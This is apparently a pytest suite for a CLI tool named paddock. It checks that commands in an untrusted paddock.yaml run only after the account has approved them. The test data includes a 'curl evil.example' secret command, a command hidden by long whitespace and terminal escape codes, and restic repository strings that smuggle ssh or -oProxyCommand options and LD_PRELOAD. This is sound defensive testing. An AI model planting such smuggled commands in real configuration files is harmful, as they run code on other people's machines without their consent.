"""A `paddock.yaml` from somebody else: its commands run only after the account has approved them."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from cli.conftest import Paddock, paddock
from commandline import command_line
from paddock.base.computer import state_folder
from paddock.core import approval

__all__ = ["paddock"]

FILE = """\
project: home
places:
  here: {{host: {{}}}}
  node:
    proxmox:
      url: https://127.0.0.1:9
      node: pve
      token: {{command: [sh, -c, "touch {planted}; echo x"]}}
      storage: local
      base: local:vztmpl/debian.tar.zst
      fingerprint: "00:00:00:00:00:00:00:00:00:00:00:00:00:00:00:00:00:00:00:00:00:00:00:00:00:00:00:00:00:00:00:00"
      ssh: {{key: ./id}}
agents:
  hermes:
    kind: hermes
    version: 0.19.0
    place: {place}
    runtime: {runtime}
    secrets: {{A: {{command: [touch, "{planted}"]}}}}
    environment_files: [{{command: [touch, "{planted}"]}}]
    backup: {{to: {{restic: {{repository: ./restic, password: {{command: [touch, "{planted}"]}}}}}}}}
notify: {{command: [touch, "{planted}"]}}
"""


@pytest.fixture
def planted(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The file that every command of the stranger's `paddock.yaml` creates."""
    folder = tmp_path / "work"
    folder.mkdir()
    monkeypatch.chdir(folder)
    (folder / "id").touch(mode=0o600)
    (folder / "id.pub").write_text("ssh-ed25519 AAAA none\n")
    return tmp_path / "planted"


def write(planted: Path, place: str = "node") -> None:
    runtime = "process" if place == "here" else "systemd"
    Path("paddock.yaml").write_text(FILE.format(planted=planted, place=place, runtime=runtime))


def verbs() -> list[list[str]]:
    """Every verb that reads the file, with arguments that let it run as far as possible."""
    found = []
    for name, command in command_line().commands.items():
        inner = getattr(command, "commands", {"": command})
        for each, verb in inner.items():
            if not any("--file" in parameter.opts for parameter in verb.params) or name == "timings":
                continue
            given = {"agent": "hermes", "prompt": "hello"}
            named = [parameter for parameter in verb.params if parameter.param_type_name == "argument"]
            found.append([name, *([each] if each else []), *(given.get(one.name, "hermes") for one in named)])
    return found


@pytest.mark.parametrize("place", ["node", "here"])
def test_no_verb_runs_a_command_that_the_account_has_not_approved(paddock: Paddock, planted: Path, place: str) -> None:
    write(planted, place)
    found = verbs()
    assert {"status", "up", "check", "schedule"} <= {words[0] for words in found}
    for words in found:
        paddock(*words, stdin="y\n")
        assert not planted.exists(), words


def test_check_never_runs_a_command_not_even_an_approved_one(paddock: Paddock, planted: Path) -> None:
    write(planted)
    assert paddock("approve", "--yes").code == 0
    assert paddock("check").code == 0
    assert paddock("check", "--json").code == 0
    assert not planted.exists()


def test_a_verb_without_a_terminal_exits_with_4_and_says_how_to_approve(paddock: Paddock, planted: Path) -> None:
    write(planted)
    said = paddock("status", stdin="y\n")
    assert said.code == 4
    assert f"places.node.proxmox.token: sh -c 'touch {planted}; echo x'" in said.err
    assert f"notify.command: touch {planted}" in said.err
    assert f"agents.hermes.backup.to.restic.password: touch {planted}" in said.err
    assert "paddock approve" in said.err
    assert not planted.exists()


def test_a_person_is_asked_once(paddock: Paddock, planted: Path) -> None:
    write(planted)
    refused = paddock("status", stdin="n\n", terminal=True)
    assert refused.code == 4
    assert f"notify.command: touch {planted}" in refused.err
    assert not planted.exists()
    paddock("status", stdin="y\n", terminal=True)
    assert planted.exists()
    planted.unlink()
    later = paddock("status")
    assert later.code != 4
    assert "approve" not in later.err
    assert planted.exists()


def test_only_the_commands_that_are_new_are_asked_for(paddock: Paddock, planted: Path) -> None:
    write(planted)
    assert paddock("approve", "--yes").code == 0
    with Path("paddock.yaml").open("a") as file:
        file.write("defaults: {secrets: {B: {command: [curl, evil.example]}}}\n")
    said = paddock("status")
    assert said.code == 4
    assert "curl evil.example" in said.err
    assert "touch" not in said.err
    assert not planted.exists()


def test_an_approval_holds_for_one_folder_only(
    paddock: Paddock, planted: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`./get-token` in another folder is another program."""
    write(planted)
    assert paddock("approve", "--yes").code == 0
    other = tmp_path / "other"
    other.mkdir()
    for name in ("paddock.yaml", "id", "id.pub"):
        (other / name).write_bytes(Path(name).read_bytes())
    monkeypatch.chdir(other)
    assert paddock("status").code == 4
    assert not planted.exists()


@pytest.mark.parametrize("how", ["link", "folder", "another's"])
def test_an_approval_that_the_account_did_not_write_does_not_count(paddock: Paddock, planted: Path, how: str) -> None:
    import os

    write(planted)
    assert paddock("approve", "--yes").code == 0
    for approved in (state_folder() / approval.FOLDER).iterdir():
        text = approved.read_bytes()
        if how == "another's":
            os.chown(approved, 12345, 12345)
            continue
        approved.unlink()
        if how == "folder":
            approved.mkdir()
        else:
            (planted.parent / approved.name).write_bytes(text)
            approved.symlink_to(planted.parent / approved.name)
    assert paddock("status").code == 4
    assert not planted.exists()


def test_a_long_or_invisible_command_is_shown_whole(paddock: Paddock, planted: Path) -> None:
    write(planted)
    hidden = f"sh -c 'true {' ' * 9000}\\u202e\\e[8m; touch {planted}'"
    Path("paddock.yaml").write_text(
        Path("paddock.yaml").read_text() + f'defaults: {{secrets: {{B: {{command: [sh, -c, "{hidden}"]}}}}}}\n'
    )
    said = paddock("status")
    assert said.code == 4
    line = next(line for line in said.err.splitlines() if "9000" in line or "secrets.B" in line)
    assert line.count(str(planted)) == 1
    assert "\\u202e" in line
    assert "\x1b" not in said.err


@pytest.mark.parametrize(
    ("part", "shown"),
    [
        ({"restic": {"repository": ':rclone,x="y":/b', "password": {"env": "P"}}}, None),
        ({"restic": {"repository": "rclone:nas:/b", "password": {"env": "P"}}}, None),
        ({"restic": {"repository": "sftp:me@nas:/b", "password": {"env": "P"}}}, None),
        (
            {"restic": {"repository": 'rclone::sftp,ssh="touch x":/b', "password": {"env": "P"}}},
            "rclone::sftp,ssh=",
        ),
        ({"restic": {"repository": 'rclone:nas,ssh="touch x":/b', "password": {"env": "P"}}}, "rclone:nas,ssh="),
        ({"restic": {"repository": "sftp:-oProxyCommand=x:/b", "password": {"env": "P"}}}, "sftp:-oProxyCommand"),
        ({"restic": {"repository": "sftp://me@-oProxyCommand=x/b", "password": {"env": "P"}}}, "-oProxyCommand"),
        (
            {
                "restic": {
                    "repository": "./b",
                    "password": {"env": "P"},
                    "environment": {"AWS_ACCESS_KEY_ID": {"env": "P"}, "LD_PRELOAD": {"env": "P"}},
                }
            },
            "LD_PRELOAD",
        ),
    ],
)
def test_restic_starts_other_programs_only_with_an_approval(
    paddock: Paddock, planted: Path, monkeypatch: pytest.MonkeyPatch, part: object, shown: str | None
) -> None:
    agent = {"kind": "service", "place": "here", "runtime": "process", "command": ["true"], "backup": {"to": part}}
    file = {"project": "home", "places": {"here": {"host": {}}}, "agents": {"web": agent}}
    Path("paddock.yaml").write_text(json.dumps(file))
    monkeypatch.setenv("PATH", "/usr/bin:/bin")
    said = paddock("status")
    assert (said.code == 4, "AWS_ACCESS_KEY_ID" in said.err) == (shown is not None, False), said
    assert (shown or "") in said.err


def test_a_health_command_that_runs_in_the_account_itself_is_approved_first(paddock: Paddock, planted: Path) -> None:
    """`status` asks the agent for its health. With `runtime: process` that runs outside of any confinement."""
    agent: dict[str, Any] = {"kind": "service", "runtime": "process", "command": ["sleep", "1"]}
    agent |= {"place": "here", "health": {"command": ["touch", str(planted)]}}
    file = {"project": "home", "places": {"here": {"host": {}}}, "agents": {"web": agent}}
    Path("paddock.yaml").write_text(json.dumps(file))
    said = paddock("status")
    assert said.code == 4
    assert f"agents.web.health.command: touch {planted}" in said.err


def test_a_folder_of_sources_is_built_only_with_an_approval(paddock: Paddock, planted: Path) -> None:
    Path("src").mkdir()
    Path("src/pyproject.toml").write_text('[project]\nname = "hermes-agent"\nversion = "0.19.0"\n')
    agent = {"kind": "hermes", "package": "./src", "place": "here", "runtime": "process"}
    file = {"project": "home", "places": {"here": {"host": {}}}, "agents": {"bee": agent}}
    Path("paddock.yaml").write_text(json.dumps(file))
    said = paddock("template", "lock", "bee")
    assert said.code == 4, said
    assert "agents.bee.package: the build of the Python package in src" in said.err
